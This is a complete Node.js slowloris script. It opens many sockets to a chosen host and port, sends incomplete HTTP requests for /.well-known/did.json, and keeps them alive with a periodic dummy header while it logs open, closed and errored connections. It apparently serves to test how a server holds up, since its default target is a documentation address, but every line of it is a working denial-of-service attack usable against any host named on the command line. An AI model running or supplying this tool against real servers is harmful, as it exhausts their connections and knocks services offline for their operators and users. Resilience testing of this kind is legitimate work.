// N sockets that send the start of a request (a request line and one header) and never finish it; counts closes.
// usage: node slowloris.cjs N HOST PORT
const net = require('net');
const N = +process.argv[2], host = process.argv[3] || '192.0.2.2', port = +(process.argv[4]||18911);
let open = 0, closed = 0, errs = 0; const socks = [];
function one(i){ const s = net.connect({host, port}, () => { open++; s.write('GET /.well-known/did.json HTTP/1.1\r\nHost: x\r\n'); });
  s.on('error', e => { errs++; }); s.on('close', () => { closed++; }); socks.push(s); }
let i = 0; const t = setInterval(() => { for (let k = 0; k < 200 && i < N; k++, i++) one(i); if (i >= N) clearInterval(t); }, 50);
setInterval(() => { for (const s of socks) if (!s.destroyed) s.write('X-a: b\r\n'); }, 60000);
const t0=Date.now(); setInterval(() => console.log(((Date.now()-t0)/1000).toFixed(0)+"s", 'open', open, 'closed', closed, 'errs', errs), 5000);
